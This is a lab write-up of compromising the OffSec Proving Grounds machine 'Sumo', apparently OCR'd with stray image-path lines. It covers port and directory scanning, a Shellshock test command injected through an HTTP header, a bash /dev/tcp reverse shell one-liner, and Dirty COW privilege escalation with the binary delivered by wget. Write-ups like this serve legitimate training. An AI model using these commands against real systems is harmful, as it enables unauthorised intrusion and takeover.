OffSec PG - Sumo


Machine IP →

Network Scan

Nmap scan → nmap -A -Pn -p- -T4 -o nmap.txt

OS Detection → OS: Linux; CPE: cpe:/o:linux:linux_kernelPortServiceOther details (if any)
22SSHOpenSSH 5.9p1 Debian 5ubuntu1.10 (Ubuntu Linux; protocol 2.0)
80HTTPApache httpd 2.2.22 ((Ubuntu))

Web Scan

GoBuster scan → gobuster dir -u -f -w /home/tanq/installations/SecLists/Discovery/Web-Content/directory-list-lowercase-2.3-medium.txt -x html,php,txt

Directories/files listed →

  • index.html
  • cgi-bin/ (403)
  • icons/ (403)
  • doc/ (403)


The cgi-bin/ directory looked suspicious. Generally in the past, cgi-bins used to be executed by bash directly and were vulnerable to shellshock. There is however a 403 on the directory. Running it through gobuster again tells the existence of test under that directory. Navigating to it shows that it is the default cgi-bin for the server.

The test for vulnerability for shellshock can be done as follows → curl -H "My-Header: () { :; }; echo; /usr/bin/id" If this returns a valid result, then the server is vulnerable.

It was found that the server was in fact vulnerable. Therefore, used this as an RCE to get a reverse shell using the following payload → /bin/bash -i >& /dev/tcp/ 0>&1.

This gave a shell as the user www-data and subsequently the user flag.

Privilege Escalation

Looked at the kernel version which is 3.2.0-23-generic. This is very outdated. The OS version is Ubuntu 12.04. The machine is also 64 bit. Looking at results of searchsploit, dirty cow is an exploit that would fit the scenario.

There are 4 kinds of dirty cow, the one used for this machine is'PTRACE_POKEDATA' Race Condition Privilege Escalation (/etc/passwd method). Compiling the exploit and sending the binary via wget allows setting a new user with root permissions.

Then, logging in withthe newly created user gives the root shell and subseqeuntly the root flag.

This postis licensed under CC BY 4.0 by the author.